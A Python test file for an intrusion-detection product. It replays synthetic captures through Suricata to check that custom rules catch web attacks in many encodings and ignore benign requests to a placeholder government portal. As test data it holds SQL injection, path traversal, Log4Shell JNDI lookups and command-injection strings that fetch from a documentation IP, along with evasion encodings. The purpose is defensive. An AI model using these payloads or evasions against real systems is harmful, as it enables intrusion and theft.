"""The product's own rules against attacks in encodings, and against ordinary requests, by the real Suricata.

Each attack is written once, plainly; the encodings are mechanical. Every one is a conversation of its own client.
"""

import asyncio
import itertools
import json
import shutil
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from urllib.parse import quote

import pytest

from detectors.rules.building import OURS
from detectors.rules.parsing import read_rules
from detectors.rules.replaying import replay_configuration
from drills.sensor import SensorSettings, SuricataSensor

pytestmark = pytest.mark.skipif(shutil.which("suricata") is None, reason="suricata is not installed")

SERVER = bytes((10, 10, 0, 5))
LEAST_ENCODINGS = 3


@dataclass(frozen=True, slots=True)
class Request:
    """One request, and how it is cut: bytes a TCP segment, bytes an IP fragment (0: whole)."""

    uri: str = "/tim-kiem"
    body: bytes = b""
    headers: tuple[tuple[str, str], ...] = ()
    port: int = 80
    chunked: bool = False
    segment: int = 1400
    fragment: int = 0

    def text(self) -> bytes:
        lines = [f"{'POST' if self.body else 'GET'} {self.uri} HTTP/1.1", "Host: dichvucong.example.vn"]
        lines += [f"{name}: {value}" for name, value in self.headers]
        if self.body and not any(name == "Content-Type" for name, _ in self.headers):
            lines.append("Content-Type: application/x-www-form-urlencoded")
        if self.chunked:
            parts = [self.body[at : at + 3] for at in range(0, len(self.body), 3)]
            body = b"".join(b"%x\r\n%b\r\n" % (len(part), part) for part in parts) + b"0\r\n\r\n"
            return "\r\n".join([*lines, "Transfer-Encoding: chunked", "", ""]).encode() + body
        length = [f"Content-Length: {len(self.body)}"] if self.body else []
        return "\r\n".join([*lines, *length, "", ""]).encode() + self.body


Attack = Callable[[Callable[[str], str]], Request]
"""A request with its payload as an encoding writes it."""


def in_uri(payload: str, path: str = "/tim-kiem?q=") -> Attack:
    return lambda written: Request(uri=path + written(payload))


def in_body(payload: str, field: str = "ghi_chu=") -> Attack:
    return lambda written: Request(uri="/nop-ho-so", body=(field + written(payload)).encode())


def in_header(payload: str, name: str = "X-Api-Version") -> Attack:
    return lambda written: Request(headers=((name, written(payload)),))


ATTACKS: dict[int, Attack] = {
    9100001: in_uri("-7' union all select 1,table_name from information_schema.tables-- -"),
    9100002: in_body("-7' union all select 1,table_name from information_schema.tables-- -"),
    9100003: in_uri("x' or '7'='7"),
    9100004: in_body("x' or '7'='7"),
    9100005: in_uri("../../../../etc/passwd", "/tai-ve?tep="),
    9100006: in_uri("php://filter/convert.base64-encode/resource=index", "/?trang="),
    9100007: in_uri("${jndi:ldap://198.51.100.7/a}"),
    9100008: in_header("${jndi:ldap://198.51.100.7/a}"),
    9100009: in_body("${jndi:ldap://198.51.100.7/a}"),
    9100010: in_header("() { :; }; /bin/id", "Referer"),
    9100011: in_uri("<svg/onload=alert(1)>"),
    9100012: in_body("<img src=x onerror=alert(1)>"),
    9100013: in_uri("8.8.8.8;cat /etc/issue", "/kiem-tra?may="),
    9100014: in_body("8.8.8.8|wget http://198.51.100.7/x", "may="),
    9100015: in_uri(".git/config", "/"),
    9100016: in_uri("whoami", "/tai-len/anh.php?cmd="),
    9100017: in_uri("http://169.254.169.254/latest/meta-data/", "/anh?nguon="),
    9100018: in_body("class.module.classLoader.resources.context", ""),
    9100019: in_header("%{(#nike='multipart/form-data').(#x=1)}", "Content-Type"),
    9100020: in_header("sqlmap/1.8#stable", "User-Agent"),
}
# A form that was not the one a rule was written on, in the words of the attack itself.
OTHER_WORDS: dict[int, tuple[Attack, ...]] = {
    9100001: (in_uri("1/**/union/*x*/distinct/**/select/**/null"), in_uri("0)union(select(1),2)")),
    9100003: (in_uri('1") and (3="3"), sleep(5)--'.replace(", ", " or "), "/?id="), in_uri("1;waitfor delay '0:0:5'")),
    9100005: (in_uri("..\\..\\..\\windows\\win.ini", "/?f="), in_uri("....//....//etc/passwd", "/a?f=")),
    9100007: (
        in_uri("${${lower:j}ndi:${lower:r}mi://198.51.100.7/a}"),
        in_uri("${${::-j}${::-n}${::-d}${::-i}:dns://x}"),
    ),
    9100008: (in_header("${${env:NONE:-j}ndi:dns://x.example/a}", "User-Agent"),),
    9100011: (in_uri('"><ScRiPt >alert(1)</sCrIpT>'), in_uri("<iframe src=javascript:alert(1)>")),
    9100013: (in_uri("1`id`", "/?x="), in_uri("1&&curl${IFS}198.51.100.7/s", "/?x="), in_uri("$(whoami)", "/?x=")),
    9100017: (in_uri("http://2852039166/", "/a?u="), in_uri("http://[::ffff:a9fe:a9fe]/", "/a?u=")),
    9100018: (lambda written: Request(uri="/x", body=written("class['module']['classLoader']=1").encode()),),
    9100020: (in_header("Mozilla/5.0 (compatible; Nuclei - Open-source project)", "User-Agent"),),
}
HEADER_ONLY = frozenset({9100008, 9100010, 9100019, 9100020})


def percent(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def mixed(text: str) -> str:
    return "".join(letter.upper() if at % 2 else letter.lower() for at, letter in enumerate(text))


def encodings(sid: int, attack: Attack) -> Iterator[tuple[str, Request]]:
    """The attack in every encoding that its place knows."""

    def written(text: str) -> str:
        return text if sid in HEADER_ONLY else text.replace("#", "%23").replace(" ", "%20")

    request = attack(written)
    yield "plain", request
    if sid not in (9100010,):
        yield "case", attack(lambda text: written(mixed(text)))
    yield "segments of one byte", replace(request, segment=1)
    yield "fragments", replace(request, fragment=24)
    yield "another port", replace(request, port=8881)
    if sid not in HEADER_ONLY:
        yield "percent", attack(percent)
        yield "percent twice", attack(lambda text: percent(text).replace("%", "%25"))
        yield "plus", attack(lambda text: text.replace("#", "%23").replace(" ", "+"))
    if request.body:
        yield "chunks", replace(request, chunked=True)


def held_out(sid: int, attack: Attack) -> Iterator[tuple[str, Request]]:
    """Encodings that no rule was changed for: they say how well the rules do on what nobody foresaw."""
    in_header = sid in HEADER_ONLY

    def every_third(text: str) -> str:
        return "".join(quote(letter) if at % 3 else percent(letter) for at, letter in enumerate(text))

    yield "tabs", attack(lambda text: text if in_header else "%09".join(map(percent, text.split(" "))))
    yield "capitals", attack(lambda text: text.upper() if in_header else quote(text.upper(), safe=""))
    yield "every third percent", attack(lambda text: text if in_header else every_third(text))
    request = attack(lambda text: text if in_header else quote(text))
    yield "segments of seven, another port", replace(request, segment=7, port=31337)
    yield "fragments of segments", replace(request, segment=100, fragment=8, port=5000)
    yield "the whole address", replace(request, uri=f"http://dichvucong.example.vn{request.uri}")


BENIGN = (
    Request("/tim-kiem?q=union+selection+committee"),
    Request("/tim-kiem?q=select+all+unions+or+none&trang=2"),
    Request("/tim-kiem?q=h%E1%BB%93+s%C6%A1+%C4%91%E1%BA%A5t+%C4%91ai&or=1"),
    Request("/dich-vu/3?sap-xep=ngay;trang=2"),
    Request("/ho-so;jsessionid=0A1B2C?ma=000.00.12.H42-221123-0001"),
    Request("/tra-cuu?cmd=xem&id=17&cat=/giay-to/"),
    Request("/tai-ve/../tai-ve/bieu-mau.pdf"),
    Request("/quay-lai?url=https://dichvucong.example.vn/id"),
    Request("/js/app.php?v=1.2&command=list"),
    Request("/gitconfig/env?dir=etc"),
    Request(
        "/nop", b"noi_dung=" + quote("Kính gửi: xin xác nhận 1 = 1 bản (id; cat) & ký tên; unions select").encode()
    ),
    Request("/nop", b'{"ten":"Nguy\xe1\xbb\x85n","ghi_chu":"a < b and c > d; wget","class":"module"}'),
    Request("/nop", b"html=" + quote("<p>Đơn xin <b>cấp</b> bản sao</p><img src='a.png' alt='onload'>").encode()),
    Request("/nop", b"a=" + quote("Họ tên | Ngày sinh | id | Số; sh; nc; $5 (và {x})").encode()),
    Request("/", headers=(("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),)),
    Request("/", headers=(("User-Agent", "curl/8.5.0"), ("Cookie", "a={b:(c)}; d=() x"))),
    Request("/", headers=(("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),)),
)


def test_every_rule_hits_encodings_that_it_was_not_written_on(tmp_path: Path) -> None:
    asked = {rule.sid for rule in read_rules(OURS.read_text(encoding="utf-8"))}
    assert asked == ATTACKS.keys(), "an attack for every rule"
    tried = [(sid, name, request) for sid, attack in ATTACKS.items() for name, request in encodings(sid, attack)]
    for sid, attacks in OTHER_WORDS.items():
        tried += [
            (sid, f"other words {number} {name}", request)
            for number, attack in enumerate(attacks)
            for name, request in encodings(sid, attack)
        ]
    hits = alerts(tmp_path, [request for _, _, request in tried])
    missed = [f"{sid} {name}" for client, (sid, name, _) in enumerate(tried) if sid not in hits.get(client, ())]
    assert not missed, "\n".join(missed)
    assert all(sum(sid == other for other, _, _ in tried) > LEAST_ENCODINGS for sid in asked)


def test_every_rule_hits_encodings_that_nobody_looked_at(tmp_path: Path) -> None:
    tried = [(sid, name, request) for sid, attack in ATTACKS.items() for name, request in held_out(sid, attack)]
    hits = alerts(tmp_path, [request for _, _, request in tried])
    missed = [f"{sid} {name}" for client, (sid, name, _) in enumerate(tried) if sid not in hits.get(client, ())]
    assert not missed, "\n".join(missed)


def test_no_rule_hits_what_citizens_do(tmp_path: Path) -> None:
    requests = [replace(request, segment=size) for request in BENIGN for size in (1400, 40)]
    assert alerts(tmp_path, requests) == {}


def alerts(folder: Path, requests: list[Request]) -> dict[int, set[int]]:
    """The sids that hit, by the number of the request."""
    capture = folder / "asked.pcap"
    frames = itertools.chain.from_iterable(conversation(client, request) for client, request in enumerate(requests))
    capture.write_bytes(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1) + b"".join(recorded(frames)))

    async def read() -> Path:
        configuration = replay_configuration(None, folder)
        async with SuricataSensor(SensorSettings(configuration=configuration, rules=OURS)) as sensor:
            return await sensor.replay(capture, folder / "out")

    found: dict[int, set[int]] = {}
    for line in asyncio.run(read()).read_text(encoding="utf-8").splitlines():
        event = json.loads(line)
        if event["event_type"] == "alert":
            _, _, high, low = map(int, event["src_ip"].split("."))
            found.setdefault(high * 250 + low - 1, set()).add(event["alert"]["signature_id"])
    return found


def conversation(client: int, request: Request) -> Iterator[bytes]:
    """The Ethernet frames of a request, from the handshake to the end."""
    address, ident = bytes((10, 77, client // 250, client % 250 + 1)), itertools.count(1)

    def say(flags: int, up: bool, seq: int, ack: int, data: bytes = b"") -> Iterator[bytes]:
        ports = (40000, request.port) if up else (request.port, 40000)
        tcp = struct.pack("!HHIIBBHHH", *ports, seq, ack, 0x50, flags, 65535, 0, 0) + data
        yield from packets(address if up else SERVER, SERVER if up else address, next(ident), tcp, request.fragment)

    yield from say(0x02, True, 1000, 0)
    yield from say(0x12, False, 5000, 1001)
    yield from say(0x10, True, 1001, 5001)
    text, seq = request.text(), 1001
    for at in range(0, len(text), request.segment):
        part = text[at : at + request.segment]
        yield from say(0x18, True, seq, 5001, part)
        seq += len(part)
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
    yield from say(0x18, False, 5001, seq, answer)
    yield from say(0x11, True, seq, 5001 + len(answer))
    yield from say(0x11, False, 5001 + len(answer), seq + 1)
    yield from say(0x10, True, seq + 1, 5002 + len(answer))


def packets(source: bytes, target: bytes, ident: int, tcp: bytes, fragment: int) -> Iterator[bytes]:
    """A segment in one IPv4 packet, or in fragments of so many bytes (a multiple of eight)."""
    size = fragment or len(tcp)
    for at in range(0, len(tcp), size):
        part = tcp[at : at + size]
        more = 0x2000 if at + size < len(tcp) else 0
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(part), ident, more | at // 8, 64, 6, 0) + source + target
        yield bytes.fromhex("0200000000020200000000010800") + with_checksum(ip) + part


def with_checksum(header: bytes) -> bytes:
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return header[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + header[12:]


def recorded(frames: Iterator[bytes]) -> Iterator[bytes]:
    for number, frame in enumerate(frames):
        yield struct.pack("<IIII", 1_790_000_000 + number // 1000, number % 1000 * 1000, len(frame), len(frame)) + frame
